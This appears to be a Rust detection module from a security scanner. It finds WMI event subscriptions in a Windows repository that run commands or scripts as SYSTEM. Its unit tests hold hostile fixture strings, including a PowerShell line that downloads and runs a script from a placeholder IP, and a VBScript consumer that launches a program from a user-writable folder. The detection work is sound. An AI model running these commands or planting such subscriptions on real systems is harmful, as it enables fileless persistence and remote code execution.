//! WMI event subscriptions in the WMI repository of a Windows image
//! (`Windows\System32\wbem\Repository\OBJECTS.DATA`, `Repository\FS\OBJECTS.DATA` before
//! Vista): a `__FilterToConsumerBinding` that ties an event filter to a
//! `CommandLineEventConsumer` or an `ActiveScriptEventConsumer` runs a command or a script as
//! SYSTEM whenever the filter fires — fileless persistence that survives reboots and that no
//! Run key or Startup folder shows. `windows-wmi-subscription`, high (the consumer's command
//! is judged as `windows_command` judges commands, and why it is worse is said).
//!
//! How it is read: by keyword, the way Mandiant's PyWMIPersistenceFinder and its ports read
//! the file, not by parsing the repository's mapping and index. An instance record's strings
//! are CIM strings in its heap (a flag byte, 0 for ASCII or 1 for UTF-16LE, the string and its
//! terminator), so: every `…EventConsumer.Name="<name>"` reference (ASCII or UTF-16LE) with
//! `FilterToConsumerBinding` within [`NEAR`] bytes is a binding, its filter the nearest
//! `__EventFilter.Name="…"`; the consumer's instance is where its class name is followed,
//! within [`NEAR`] bytes, by the CIM string of its name; the CIM strings after the name are
//! its `CommandLineTemplate` (or `ScriptingEngine` and `ScriptText`). Consumers of other
//! classes (the Service Control Manager's `NTEventLogEventConsumer` on every Windows Server,
//! `SMTPEventConsumer`, `LogFileEventConsumer`) run no code and are not reported; the class
//! definitions hold no `.Name="` reference and give nothing.
//!
//! Limits: a record split across two pages that the mapping files do not place side by side
//! is not joined (its command may be missing: the binding is still reported); a deleted
//! subscription still in a free page is reported like a live one (it was in the image);
//! repositories above [`MAX_REPOSITORY`] bytes are errors, not verdicts.

use super::windows_hives::find_path;
use super::{CheckHit, CheckRule, clip, windows_command};
use crate::detect::lookup::{FileLookup, Unreadable};
use crate::model::ScanError;
use crate::report::Severity;
use memchr::memmem;

/// A WMI subscription that runs a command or a script.
pub(crate) const RULE: CheckRule = CheckRule {
    id: "windows-wmi-subscription",
    title: "WMI event subscription runs a command or script (CommandLine/ActiveScript consumer)",
    severity: Severity::High,
    remediation: "Remove the subscription unless it is a vetted part of the image: `Get-CimInstance -Namespace root/subscription -ClassName __FilterToConsumerBinding | Remove-CimInstance`, and the consumer and filter likewise (`CommandLineEventConsumer`, `ActiveScriptEventConsumer`, `__EventFilter`); WMI subscriptions are a classic fileless persistence that runs as SYSTEM. Find out how it got there.",
    suppresses: &[],
};

/// Every rule of the family.
pub(crate) const RULES: &[CheckRule] = &[RULE];

/// Largest repository read (a busy server's is a few hundred MiB).
pub(crate) const MAX_REPOSITORY: usize = 512 << 20;
/// How far (bytes) a binding's parts, or a consumer's name from its class, may lie.
const NEAR: usize = 4096;
/// Most bindings reported per repository.
const MAX_BINDINGS: usize = 256;
/// Most characters of one string read.
const MAX_CHARS: usize = 8192;

/// The consumer classes that run code.
const CODE_CONSUMERS: &[&str] = &["CommandLineEventConsumer", "ActiveScriptEventConsumer"];

/// String encodings of the repository.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Enc {
    Ascii,
    Utf16,
}

impl Enc {
    fn encode(self, s: &str) -> Vec<u8> {
        match self {
            Enc::Ascii => s.as_bytes().to_vec(),
            Enc::Utf16 => s.encode_utf16().flat_map(u16::to_le_bytes).collect(),
        }
    }

    fn unit(self) -> usize {
        match self {
            Enc::Ascii => 1,
            Enc::Utf16 => 2,
        }
    }

    /// The character at byte `at`, if it is ASCII.
    fn ascii_at(self, data: &[u8], at: usize) -> Option<u8> {
        match self {
            Enc::Ascii => data.get(at).copied().filter(u8::is_ascii),
            Enc::Utf16 => match data.get(at..at.checked_add(2)?)? {
                [c, 0] if c.is_ascii() => Some(*c),
                _ => None,
            },
        }
    }

    /// The terminated string at `at` (at most [`MAX_CHARS`]; to the end of `data` without a
    /// terminator).
    fn string_at(self, data: &[u8], at: usize) -> String {
        let rest = data.get(at..).unwrap_or(&[]);
        match self {
            Enc::Ascii => rest
                .iter()
                .take_while(|&&c| c != 0)
                .take(MAX_CHARS)
                .map(|&c| char::from(c))
                .collect(),
            Enc::Utf16 => {
                let units: Vec<u16> = rest
                    .chunks_exact(2)
                    .map(|p| u16::from_le_bytes([p[0], p[1]]))
                    .take_while(|&u| u != 0)
                    .take(MAX_CHARS)
                    .collect();
                String::from_utf16_lossy(&units)
            }
        }
    }
}

/// A binding of a filter to a consumer that runs code.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
struct Binding {
    class: String,
    consumer: String,
    filter: Option<String>,
    /// Where its consumer reference starts, and its length (the finding's span).
    at: usize,
    len: usize,
}

/// Offsets of every occurrence of `needle` in `data` (bounded by the caller's use).
fn all(data: &[u8], needle: &[u8]) -> Vec<usize> {
    memmem::find_iter(data, needle).take(1 << 16).collect()
}

/// The `Class.Name="value"` reference whose `.Name="` is at `at`: (class, value).
fn reference(data: &[u8], enc: Enc, at: usize, marker_len: usize) -> (String, String) {
    let u = enc.unit();
    let mut start = at;
    let mut class = Vec::new();
    while class.len() < 128 {
        let Some(prev) = start.checked_sub(u) else {
            break;
        };
        match enc.ascii_at(data, prev) {
            Some(c) if c.is_ascii_alphanumeric() || c == b'_' => {
                class.push(c);
                start = prev;
            }
            _ => break,
        }
    }
    class.reverse();
    let mut value = String::new();
    let mut p = at.saturating_add(marker_len);
    while value.len() < 256 {
        match enc.ascii_at(data, p) {
            Some(b'"') | Some(0) | None => break,
            Some(c) => value.push(char::from(c)),
        }
        p = p.saturating_add(u);
    }
    (String::from_utf8_lossy(&class).into_owned(), value)
}

/// Every binding to a code-running consumer in `data`.
fn bindings(data: &[u8]) -> Vec<Binding> {
    let mut out = Vec::new();
    // The binding's class name, in either encoding (class names are usually ASCII, the
    // references beside them in either).
    let mut bindings_at = all(data, b"FilterToConsumerBinding");
    bindings_at.extend(all(data, &Enc::Utf16.encode("FilterToConsumerBinding")));
    if bindings_at.is_empty() {
        return out;
    }
    for enc in [Enc::Ascii, Enc::Utf16] {
        let marker = enc.encode(".Name=\"");
        let filter_marker = enc.encode("_EventFilter.Name=\"");
        for at in all(data, &marker) {
            let (class, name) = reference(data, enc, at, marker.len());
            if !CODE_CONSUMERS.contains(&class.as_str()) || name.is_empty() {
                continue;
            }
            let near = |p: &usize| p.abs_diff(at) <= NEAR;
            if !bindings_at.iter().any(near) {
                continue;
            }
            let lo = at.saturating_sub(NEAR);
            let hi = at.saturating_add(NEAR).min(data.len());
            let filter = data.get(lo..hi).and_then(|w| {
                memmem::find_iter(w, &filter_marker)
                    .map(|p| p.saturating_add(lo))
                    .min_by_key(|p| p.abs_diff(at))
                    .map(|p| {
                        let (_, f) = reference(data, enc, p.saturating_add(filter_marker.len()), 0);
                        f
                    })
            });
            let len = marker
                .len()
                .saturating_add(name.len().saturating_mul(enc.unit()));
            out.push(Binding {
                class,
                consumer: name,
                filter,
                at,
                len,
            });
            if out.len() >= MAX_BINDINGS {
                break;
            }
        }
    }
    // One finding per subscription: the same binding in several pages (a copy, a free page)
    // is reported once, at its first place.
    out.sort();
    out.dedup_by(|b, a| (&a.class, &a.consumer, &a.filter) == (&b.class, &b.consumer, &b.filter));
    out
}

/// The CIM string (flag byte, string, terminator) at `at`: the string and where it ends.
fn cim_string(data: &[u8], at: usize) -> Option<(String, usize)> {
    let enc = match data.get(at)? {
        0 => Enc::Ascii,
        1 => Enc::Utf16,
        _ => return None,
    };
    let start = at.checked_add(1)?;
    let s = enc.string_at(data, start);
    let len = match enc {
        Enc::Ascii => s.len(),
        Enc::Utf16 => s.encode_utf16().count().saturating_mul(2),
    };
    Some((s, start.saturating_add(len).saturating_add(enc.unit())))
}

/// What the consumer `class` named `name` runs: the CIM strings after its name in its
/// instance (`CommandLineTemplate`; `ScriptingEngine` and `ScriptText`).
fn consumer_command(data: &[u8], class: &str, name: &str) -> Option<String> {
    let wanted = if class == "ActiveScriptEventConsumer" {
        2
    } else {
        1
    };
    for class_enc in [Enc::Ascii, Enc::Utf16] {
        for at in all(data, &class_enc.encode(class)) {
            let hi = at.saturating_add(NEAR).min(data.len());
            let window = data.get(at..hi)?;
            for (flag, enc) in [(0u8, Enc::Ascii), (1u8, Enc::Utf16)] {
                let mut needle = vec![flag];
                needle.extend(enc.encode(name));
                needle.extend(vec![0u8; enc.unit()]);
                let Some(p) = memmem::find(window, &needle) else {
                    continue;
                };
                let mut next = at.saturating_add(p).saturating_add(needle.len());
                let mut parts = Vec::new();
                while parts.len() < wanted {
                    let Some((s, end)) = cim_string(data, next) else {
                        break;
                    };
                    if !s.is_empty() {
                        parts.push(s);
                    }
                    next = end;
                }
                if !parts.is_empty() {
                    return Some(parts.join(": "));
                }
            }
        }
    }
    None
}

/// The findings for the repository `data`.
pub(crate) fn judge(data: &[u8]) -> Vec<CheckHit> {
    let mut hits = Vec::new();
    for b in bindings(data) {
        let command = consumer_command(data, &b.class, &b.consumer);
        let filter = b.filter.as_deref().map_or_else(
            || "an event filter".to_string(),
            |f| format!("filter `{}`", clip(f, 80)),
        );
        let runs = match &command {
            Some(c) => {
                let j = windows_command::judge(c);
                let why = match (j.download, j.writable) {
                    (Some(d), _) => format!(" ({d})"),
                    (None, Some(dir)) => {
                        format!(" (a program in {dir}, which users may write by default)")
                    }
                    (None, None) => String::new(),
                };
                format!("runs {}{why}", clip(&windows_command::shown(c), 300))
            }
            None => {
                "runs a command not found in the repository (its record was not read)".to_string()
            }
        };
        let evidence = format!(
            "WMI subscription binds {filter} to {} `{}`, which {runs} as SYSTEM",
            b.class,
            clip(&b.consumer, 80)
        );
        let fp = format!(
            "{}\0{}\0{}\0{}",
            b.class,
            b.consumer,
            b.filter.as_deref().unwrap_or(""),
            command.as_deref().unwrap_or("")
        );
        // The span of the consumer reference: each subscription is its own finding.
        let mut hit = CheckHit::file(&RULE, RULE.severity, evidence, fp.as_bytes());
        hit.start = u64::try_from(b.at).unwrap_or(u64::MAX);
        hit.end = hit.start.saturating_add(u64::try_from(b.len).unwrap_or(0));
        hits.push(hit);
    }
    hits
}

/// Every finding about the WMI repositories of a volume (path, hit), and what could not be
/// judged.
pub(crate) fn check(lookup: &dyn FileLookup) -> (Vec<(String, CheckHit)>, Vec<ScanError>) {
    let mut out = Vec::new();
    let mut errors = Vec::new();
    for parts in [
        &["Windows", "System32", "wbem", "Repository", "OBJECTS.DATA"][..],
        &[
            "Windows",
            "System32",
            "wbem",
            "Repository",
            "FS",
            "OBJECTS.DATA",
        ][..],
    ] {
        let path = match find_path(lookup, parts) {
            Ok(Some(p)) => p,
            Ok(None) => continue,
            Err(e) => {
                errors.push(e.scan_error("the WMI repository was not judged"));
                continue;
            }
        };
        match lookup.read(&path, MAX_REPOSITORY.saturating_add(1)) {
            Ok(Some(data)) if data.len() > MAX_REPOSITORY => errors.push(
                Unreadable {
                    path: path.clone(),
                    reason: format!("larger than {} MiB", MAX_REPOSITORY >> 20),
                }
                .scan_error("the WMI repository was not judged"),
            ),
            Ok(Some(data)) => out.extend(judge(&data).into_iter().map(|h| (path.clone(), h))),
            Ok(None) => {}
            Err(e) => errors.push(e.scan_error("the WMI repository was not judged")),
        }
    }
    (out, errors)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::lookup::MemLookup;

    /// A CIM string as the repository stores it.
    fn cim(s: &str, enc: Enc) -> Vec<u8> {
        let mut b = vec![u8::from(enc == Enc::Utf16)];
        b.extend(enc.encode(s));
        b.extend(vec![0u8; enc.unit()]);
        b
    }

    /// An instance's heap: its class name, then its string properties.
    fn heap(class: &str, values: &[&str], enc: Enc) -> Vec<u8> {
        let mut b = vec![0xAB; 150]; // the record header: class hash, times, sizes
        b.extend(cim(class, Enc::Ascii));
        b.extend([0, 1, 2, 0, 0, 0, 0, 0, 5, 32, 0]); // CreatorSID bytes
        for v in values {
            b.extend(cim(v, enc));
        }
        b
    }

    fn repository(extra: &[Vec<u8>]) -> Vec<u8> {
        let mut d = Vec::new();
        // Class definitions and the stock SCM subscription.
        d.extend(cim("CommandLineEventConsumer", Enc::Ascii));
        d.extend(cim("CommandLineTemplate", Enc::Ascii));
        d.extend(cim("ActiveScriptEventConsumer", Enc::Ascii));
        d.extend(heap(
            "NTEventLogEventConsumer",
            &["SCM Event Log Consumer", "Service Control Manager"],
            Enc::Ascii,
        ));
        d.extend(heap(
            "__FilterToConsumerBinding",
            &[
                r#"NTEventLogEventConsumer.Name="SCM Event Log Consumer""#,
                r#"__EventFilter.Name="SCM Event Log Filter""#,
            ],
            Enc::Ascii,
        ));
        for e in extra {
            d.extend(vec![0u8; 64]);
            d.extend(e);
        }
        d
    }

    #[test]
    fn a_stock_repository_gives_nothing() {
        assert!(judge(&repository(&[])).is_empty());
        // A consumer without a binding is not a subscription.
        let lone = heap(
            "CommandLineEventConsumer",
            &["Orphan", "cmd /c whoami"],
            Enc::Ascii,
        );
        assert!(judge(&repository(&[lone])).is_empty());
    }

    #[test]
    fn command_line_and_script_consumers_bound_to_filters() {
        let d = repository(&[
            heap(
                "CommandLineEventConsumer",
                &[
                    "WindowsUpdater",
                    "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.8/p.ps1')\"",
                ],
                Enc::Ascii,
            ),
            heap(
                "__FilterToConsumerBinding",
                &[
                    r#"CommandLineEventConsumer.Name="WindowsUpdater""#,
                    r#"__EventFilter.Name="WindowsUpdater Filter""#,
                ],
                Enc::Ascii,
            ),
            heap(
                "ActiveScriptEventConsumer",
                &[
                    "Telemetry",
                    "VBScript",
                    r#"CreateObject("WScript.Shell").Run "C:\Users\Public\svc.exe", 0"#,
                ],
                Enc::Utf16,
            ),
            heap(
                "__FilterToConsumerBinding",
                &[
                    r#"ActiveScriptEventConsumer.Name="Telemetry""#,
                    r#"__EventFilter.Name="Telemetry Filter""#,
                ],
                Enc::Utf16,
            ),
        ]);
        let hits = judge(&d);
        let ev: Vec<&str> = hits.iter().map(|h| h.evidence.as_str()).collect();
        assert_eq!(hits.len(), 2, "{ev:#?}");
        // Each subscription has its own span (findings on one span are one finding).
        assert_ne!((hits[0].start, hits[0].end), (hits[1].start, hits[1].end));
        assert!(hits.iter().all(|h| h.severity == Severity::High));
        // Sorted by class: the script consumer first.
        assert_eq!(
            ev[1],
            "WMI subscription binds filter `WindowsUpdater Filter` to CommandLineEventConsumer `WindowsUpdater`, which runs powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.8/p.ps1')\" (PowerShell runs downloaded code (Invoke-Expression of a download)) as SYSTEM"
        );
        assert!(
            ev[0].starts_with("WMI subscription binds filter `Telemetry Filter` to ActiveScriptEventConsumer `Telemetry`, which runs VBScript: CreateObject"),
            "{}",
            ev[0]
        );
    }

    #[test]
    fn a_binding_whose_consumer_is_missing_is_still_reported_and_garbage_is_bounded() {
        let ghost = heap(
            "__FilterToConsumerBinding",
            &[
                r#"CommandLineEventConsumer.Name="Ghost""#,
                r#"__EventFilter.Name="F""#,
            ],
            Enc::Ascii,
        );
        // The same binding twice (a stale copy in a free page): one finding.
        let d = repository(&[ghost.clone(), ghost]);
        let hits = judge(&d);
        assert_eq!(hits.len(), 1);
        assert!(
            hits[0].evidence.contains("not found in the repository"),
            "{}",
            hits[0].evidence
        );
        // Hostile bytes: markers at the very ends, no terminators.
        for tail in [
            &b".Name=\""[..],
            b"CommandLineEventConsumer.Name=\"",
            b"\x01",
            b"FilterToConsumerBinding",
        ] {
            let mut d = b"FilterToConsumerBindingCommandLineEventConsumer".to_vec();
            d.extend(tail);
            let _ = judge(&d);
        }
    }

    #[test]
    fn the_repository_is_found_without_case() {
        let d = repository(&[
            heap(
                "CommandLineEventConsumer",
                &["X", r"C:\ProgramData\x.exe"],
                Enc::Ascii,
            ),
            heap(
                "__FilterToConsumerBinding",
                &[
                    r#"CommandLineEventConsumer.Name="X""#,
                    r#"__EventFilter.Name="Y""#,
                ],
                Enc::Ascii,
            ),
        ]);
        let l = MemLookup::new().file("/WINDOWS/system32/WBEM/Repository/Objects.data", &d);
        let (hits, errors) = check(&l);
        assert!(errors.is_empty(), "{errors:?}");
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].0, "/WINDOWS/system32/WBEM/Repository/Objects.data");
        assert!(
            hits[0]
                .1
                .evidence
                .contains("ProgramData, which users may write")
        );
        let l = MemLookup::new()
            .file("/Windows/System32/wbem/Repository/OBJECTS.DATA", &d)
            .unreadable("/Windows/System32/wbem/Repository/OBJECTS.DATA");
        let (hits, errors) = check(&l);
        assert!(hits.is_empty());
        assert_eq!(errors.len(), 1);
    }
}
